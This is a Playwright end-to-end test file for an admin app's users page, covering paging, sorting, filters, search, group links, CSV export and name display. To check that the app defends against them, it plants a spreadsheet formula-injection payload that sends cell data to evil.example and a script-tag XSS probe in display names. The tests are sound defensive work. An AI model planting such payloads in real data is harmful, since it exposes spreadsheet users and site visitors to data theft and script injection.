import fs from "node:fs/promises";

import { parseCsv } from "../csv";
import { expect, test } from "../fixtures";
import { kept } from "../simulator";

interface User {
  id: string;
  external_id: string;
  display_name: string;
  user_principal_name: string;
  status: string;
}

const FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Salaries")';

test("users are searched, filtered, sorted and paged, all in the address", async ({
  page,
  goto,
  customer,
  tenant,
  control,
  api,
}) => {
  await api.synced(customer, tenant);
  const users = kept(await control.snapshot());
  const inactive = users.filter((user) => !user.account_enabled);
  expect(inactive.length, "the seed has people whose sign-in is blocked").toBeGreaterThan(0);
  expect(users.length, "the seed fills more than one page").toBeGreaterThan(50);

  await goto(`/users?customer=${customer.id}`);
  const table = page.getByRole("table", { name: "Users" });
  const rows = table.getByRole("row");
  await expect(page.getByText(`${users.length} users`)).toBeVisible();

  await test.step("pages", async () => {
    await expect(rows).toHaveCount(51);
    const first = await rows.nth(1).textContent();
    await page.getByRole("link", { name: "Next page" }).click();
    await expect(page).toHaveURL(/page=2/);
    await expect(rows).toHaveCount(Math.min(users.length - 50, 50) + 1);
    await expect(rows.nth(1)).not.toHaveText(first ?? "");
    await page.getByRole("navigation", { name: "Rows per page" }).getByRole("link", { name: "1,000" }).click();
    await expect(rows).toHaveCount(users.length + 1);
    await expect(page).not.toHaveURL(/page=2/);
  });

  await test.step("sort", async () => {
    const head = table.getByRole("columnheader", { name: "User Name" });
    const [first] = users.map((user) => user.user_principal_name!.toLowerCase()).sort();
    await head.getByRole("link").click();
    await expect(head).toHaveAttribute("aria-sort", "ascending");
    await expect(rows.nth(1)).toContainText(first!, { ignoreCase: true });
    await head.getByRole("link").click();
    await expect(head).toHaveAttribute("aria-sort", "descending");
    await expect(rows.nth(users.length)).toContainText(first!, { ignoreCase: true });
  });

  await test.step("filter", async () => {
    await page.getByText("User Status", { exact: true }).first().click();
    await page.getByRole("list", { name: "User Status" }).getByRole("link", { name: "Inactive" }).click();
    await expect(page).toHaveURL(/status=inactive/);
    await expect(page.getByText(`${inactive.length} user`)).toBeVisible();
    await expect(rows).toHaveCount(inactive.length + 1);
    await expect(table.getByText("Active", { exact: true })).toHaveCount(0);
    await page.getByRole("link", { name: "Clear filter User Status: Inactive" }).click();
    await page.getByText("Source Type", { exact: true }).first().click();
    await page.getByRole("list", { name: "Source Type" }).getByRole("link", { name: "Manual" }).click();
    await expect(page.getByRole("heading", { name: "No users match" })).toBeVisible();
    await page.getByRole("link", { name: "Clear filters" }).click();
    await expect(rows).toHaveCount(users.length + 1);
  });

  await test.step("search, by name and by user name, whatever the case", async () => {
    const wanted = users.find((user) => /^[a-z]+ [a-z]+$/i.test(user.display_name ?? ""))!;
    const search = page.getByRole("searchbox", { name: "Search Users" });
    await search.fill(wanted.user_principal_name!.toUpperCase());
    await expect(rows).toHaveCount(2);
    await search.fill(wanted.display_name!.toLowerCase());
    await expect(page.getByRole("link", { name: wanted.display_name!, exact: true }).first()).toBeVisible();
    // The address alone shows the same to somebody else.
    await expect.poll(() => new URL(page.url()).searchParams.get("q")).toBe(wanted.display_name!.toLowerCase());
    await goto(page.url());
    await expect(page.getByRole("link", { name: wanted.display_name!, exact: true }).first()).toBeVisible();
    await expect(search).toHaveValue(wanted.display_name!.toLowerCase());
  });
});

test("one user and one group lead to each other", async ({ page, goto, customer, tenant, control, api }) => {
  const given = "Ólafía";
  const user = await control.createUser(given, "Þórsdóttir");
  const name = `${given} Þórsdóttir`;
  const inner = await control.createGroup("Night shift", "security", [user.id]);
  await control.createGroup("All shifts", "security", [inner.id]);
  await api.synced(customer, tenant);

  await goto(`/users?customer=${customer.id}&q=${encodeURIComponent("þórsd")}`);
  await page.getByRole("link", { name }).click();
  await expect(page.getByRole("heading", { level: 1, name })).toBeVisible();
  await expect(page.getByRole("main")).toContainText("Active");
  await expect(page.getByRole("main")).toContainText("EntraSync");
  const attributes = page.getByRole("table", { name: "Attributes" });
  await expect(attributes.getByRole("row", { name: /Given name/ })).toContainText(given);
  await expect(attributes.getByRole("row", { name: /Object id/ })).toContainText(user.id);

  const groups = page.getByRole("table", { name: "Groups" });
  await expect(groups.getByRole("row")).toHaveCount(3);
  await expect(groups.getByRole("row", { name: /All shifts/ })).toContainText("Night shift");
  await groups.getByRole("link", { name: "Night shift" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Night shift" })).toBeVisible();
  await expect(page.getByRole("link", { name: "All shifts" })).toBeVisible();
  const members = page.getByRole("table", { name: "Members" });
  await expect(members.getByRole("row")).toHaveCount(2);
  await members.getByRole("link", { name }).click();
  await expect(page.getByRole("heading", { level: 1, name })).toBeVisible();
  await page.goBack();
  await page.getByRole("link", { name: "All shifts" }).click();
  await expect(page.getByRole("table", { name: "Members" }).getByRole("row", { name: /^Night shift/ })).toContainText("Group");
});

test("the CSV holds every user of the filter, and nothing that a spreadsheet would run", async ({
  page,
  goto,
  customer,
  tenant,
  control,
  api,
}) => {
  const user = await control.createUser("Cal", "Culator");
  await control.update(user.id, { displayName: FORMULA });
  await api.synced(customer, tenant);
  const users = await api.all<User>(`/customers/${customer.id}/users`);

  await goto(`/users?customer=${customer.id}`);
  await expect(page.getByRole("link", { name: FORMULA })).toHaveCount(1);
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Export to CSV" }).click(),
  ]);
  expect(download.suggestedFilename()).toBe("users.csv");
  const rows = parseCsv(await fs.readFile(await download.path(), "utf8"));
  expect(rows.map((row) => row["Object Id"]).sort()).toEqual(users.map((one) => one.external_id).sort());
  const evil = rows.find((row) => row["Object Id"] === user.id);
  expect(evil?.["Name"]).toBe(`'${FORMULA}`);
  for (const cell of rows.flatMap((row) => Object.values(row))) {
    expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
  }

  await goto(`/users?customer=${customer.id}&q=HYPERLINK`);
  const [few] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Export to CSV" }).click(),
  ]);
  expect(parseCsv(await fs.readFile(await few.path(), "utf8"))).toHaveLength(
    users.filter((one) => one.display_name.includes("HYPERLINK")).length,
  );
});

test("names are shown as they are", async ({ page, goto, customer, tenant, control, api }) => {
  const names = [
    "مُحَمَّد الفاتح",
    "<script>alert(1)</script> O'Neil \"Bob\"",
    "🧑‍🚀 Valentina 🇺🇦",
    `Long ${"ä".repeat(250)}`,
  ];
  for (const [i, displayName] of names.entries()) {
    const user = await control.createUser("Odd", `Name${"abcd"[i]}`);
    await control.update(user.id, { displayName });
  }
  await api.synced(customer, tenant);
  await goto(`/users?customer=${customer.id}&rows=1000`);
  for (const name of names) {
    await expect(page.getByRole("link", { name, exact: true })).toHaveCount(1);
  }
  await page.getByRole("link", { name: names[3]!, exact: true }).click();
  await expect(page.getByRole("heading", { level: 1, name: names[3]! })).toBeVisible();
});
